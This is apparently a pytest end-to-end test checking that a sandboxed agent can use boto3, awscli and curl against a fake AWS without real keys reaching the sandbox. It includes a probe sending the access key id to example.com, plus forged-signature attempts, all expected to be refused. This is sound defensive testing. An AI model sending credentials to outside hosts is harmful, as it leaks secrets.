"""The `aws` grant with AWS's own clients, boto3 and `aws`, in both runtimes.

The stand-in checks every signature with botocore and takes no other key than those of the role. In the sandbox there
are placeholders.
"""

from __future__ import annotations

import json
import shutil
import subprocess
import sysconfig
from collections.abc import Callable, Iterator
from pathlib import Path

import pytest

from tests.e2e.claude_world import RUNTIMES
from tests.fakes.aws import HOSTS, OWN, REGION, ROLE, FakeAws
from tests.vault.vendor import Vendor, vendor

Moat = Callable[..., subprocess.CompletedProcess[str]]
PACKAGES = (
    "boto3", "botocore", "s3transfer", "jmespath", "dateutil", "urllib3", "awscli", "docutils", "colorama", "rsa",
    "pyasn1", "yaml",
)  # fmt: skip
# Of the data of botocore, which has hundreds; `aws` does not start without the last of them.
SERVICES = (
    "s3", "sts", "dynamodb", "endpoints.json", "partitions.json", "sdk-default-configuration.json", "_retry.json",
    "sdb", "codedeploy", "config", "sagemaker-runtime", "sms-voice",
)  # fmt: skip
SCRIPT = r"""
import base64, hashlib, io, json, os, urllib.request, urllib.error
import boto3
from boto3.s3.transfer import TransferConfig
from botocore.config import Config

said = {}
def attempt(name, call):
    try:
        said[name] = call()
    except Exception as error:
        body = error.read().decode() if isinstance(error, urllib.error.HTTPError) else str(error)
        said[name] = "refused: " + body

def fetch(url, **options):
    with urllib.request.urlopen(urllib.request.Request(url, **options)) as answer:
        return answer.read().decode()

s3, dynamo, sts = (boto3.client(name) for name in ("s3", "dynamodb", "sts"))
names = ["a b+c/ü&=%41.txt", "plain"]
for name in names:
    s3.put_object(Bucket="bucket", Key=name, Body=name.encode(), Metadata={"x": " two  spaces "})
attempt("read", lambda: [s3.get_object(Bucket="bucket", Key=name)["Body"].read().decode() for name in names])
attempt("keys", lambda: [one["Key"] for one in s3.list_objects_v2(Bucket="bucket", Prefix="")["Contents"]])
large = os.urandom(1 << 20)
s3.upload_fileobj(io.BytesIO(large), "bucket", "large")  # STREAMING-UNSIGNED-PAYLOAD-TRAILER
got = io.BytesIO()
parts = TransferConfig(multipart_threshold=1 << 18, multipart_chunksize=1 << 18)
s3.download_fileobj("bucket", "large", got, Config=parts)  # ranges, several at a time
said["large"] = got.getvalue() == large
attempt("item", lambda: dynamo.get_item(TableName="t", Key={"id": {"S": "ü" * 1000}})["Item"]["echo"]["S"])
attempt("identity", lambda: sts.get_caller_identity())
attempt("assume", lambda: sts.assume_role(RoleArn="arn:aws:iam::123456789012:role/x", RoleSessionName="xyz"))
attempt("token", lambda: sts.get_session_token())
v4 = boto3.client("s3", config=Config(signature_version="s3v4"))
url = v4.generate_presigned_url("get_object", Params={"Bucket": "bucket", "Key": names[0]}, ExpiresIn=600)
attempt("presigned", lambda: fetch(url))
attempt("changed", lambda: fetch(url.replace("a%20b", "a%20x")))
attempt("put", lambda: fetch(v4.generate_presigned_url("put_object", Params={"Bucket": "bucket", "Key": "put"}), data=b"put", method="PUT"))
attempt("put-read", lambda: s3.get_object(Bucket="bucket", Key="put")["Body"].read().decode())
key_id = os.environ["AWS_ACCESS_KEY_ID"]
attempt("guessed", lambda: boto3.client("dynamodb", aws_secret_access_key="x" * 40, aws_access_key_id=key_id).list_tables())
attempt("own", lambda: boto3.client("s3", aws_secret_access_key="x", aws_access_key_id="AKIAOTHEROTHEROTHER0").list_buckets())
attempt("v2", lambda: boto3.client("s3", config=Config(signature_version="s3")).list_buckets())
attempt("foreign", lambda: fetch("https://example.com/", headers={"X": key_id}))
said["environment"] = dict(os.environ)
print("SAID" + json.dumps(said))
"""
SHELL = """
export PYTHONPATH=$PWD/lib
python3 script.py || exit 1
aws() { python3 -m awscli "$@"; }
echo "AWS$(aws s3 cp s3://bucket/plain -)"
echo "ARN$(aws sts get-caller-identity --query Arn --output text)"
date +by-curl > up; curl -sS --aws-sigv4 "aws:amz:$AWS_REGION:s3" --user "$AWS_ACCESS_KEY_ID:$AWS_SECRET_ACCESS_KEY" \
  -H "X-Amz-Content-Sha256: $(sha256sum < up | cut -c1-64)" -T up "https://bucket.s3.$AWS_REGION.amazonaws.com/curl"
curl -sS -H 'Authorization: Bearer x' "https://bucket.s3.$AWS_REGION.amazonaws.com/curl" | sed 's/^/UNSIGNED/'
"""


@pytest.fixture
def aws(home: Path, tmp_path: Path) -> Iterator[tuple[FakeAws, Vendor]]:
    fake = FakeAws(external_id="agents-7")
    (home / ".aws").mkdir()
    (home / ".aws" / "credentials").write_text(
        f"[work]\naws_access_key_id = {OWN.access_key}\naws_secret_access_key = {OWN.secret_key}\n"
    )
    with vendor(tmp_path / "vendor", fake, *HOSTS) as server:
        server.config(home / ".moat", *HOSTS)
        yield fake, server


def libraries(into: Path) -> None:
    """AWS's clients as they are installed here, with no other services than those of the stand-in."""

    def skipped(directory: str, names: list[str]) -> set[str]:
        if directory.endswith("botocore/data"):
            return set(names) - set(SERVICES)
        return set(names) & {"__pycache__", "examples", "topics"}

    site = Path(sysconfig.get_paths()["purelib"])
    for name in PACKAGES:
        shutil.copytree(site / name, into / name, ignore=skipped)
    shutil.copy2(site / "six.py", into / "six.py")


@pytest.mark.parametrize("runtime", RUNTIMES)
def test_aws_clients_work_and_no_key_is_in_the_sandbox(
    moat: Moat, aws: tuple[FakeAws, Vendor], home: Path, tmp_path: Path, runtime: str
) -> None:
    """Seen to fail: with no `Signed.secrets` the echo has the token in it."""
    fake, server = aws
    role = ("--role", ROLE, "--region", REGION, "--external-id", "agents-7", "--aws-profile", "work")
    granted = moat("grant", "aws", *role)
    assert granted.returncode == 0, granted.stderr
    assert "assumed-role/agents/moat-grant-test" in granted.stdout
    workspace = tmp_path / "workspace"
    (workspace / "agent.yaml").write_text(
        "dependencies: [curl, git, python]\ngrants: [aws]\nnetwork: {policy: strict}\n"
    )
    (workspace / "script.py").write_text(SCRIPT)
    libraries(workspace / "lib")
    done = moat("run", "--runtime", runtime, "--", "sh", "-c", SHELL, timeout=300)
    assert done.returncode == 0, done.stderr + done.stdout
    seen = done.stdout + done.stderr
    for secret in fake.secrets:
        assert secret not in seen
    said = json.loads(next(line for line in done.stdout.splitlines() if line.startswith("SAID"))[4:])
    names = ["a b+c/ü&=%41.txt", "plain"]
    assert (said["read"], said["keys"], said["large"]) == (names, names, True)
    assert fake.objects["/put"] == b"put"
    assert (said["presigned"], said["put-read"]) == (names[0], "put")
    assert set(json.loads(said["item"])) == {"x-echo", "x-key"}  # and their values are masked, see above
    assert said["identity"]["Arn"].startswith("arn:aws:sts::123456789012:")
    for name in ("assume", "token"):
        assert "STS would answer with keys" in said[name], said[name]  # as boto3 shows it
    for name in ("guessed", "changed", "v2"):
        assert "moat refused this request" in said[name], said[name]
    assert "InvalidClientTokenId" in said["own"]  # passed as it came
    assert "credential-host" in said["foreign"] or "policy" in said["foreign"]
    assert "AWSplain" in done.stdout
    assert "ARNarn:aws:sts::" in done.stdout
    assert fake.objects["/curl"].startswith(b"by-curl")
    assert "IncompleteSignature" in done.stdout  # not signed with the run's key: as it came
    environment = said["environment"]
    assert environment["AWS_REGION"] == REGION
    assert environment["AWS_ACCESS_KEY_ID"].startswith("AKIA")
    assert len(environment["AWS_SECRET_ACCESS_KEY"]) == 40
    assert [name.split("_")[0] for name in fake.sessions] == [
        "moat-grant-test",
        "moat-run",
    ]  # one for all requests
    trace = "".join(path.read_text() for path in home.glob(".moat/runs/*/network.jsonl"))
    assert all(secret not in trace for secret in fake.secrets)
    assert {asked.host for asked in server.asked} == set(HOSTS)
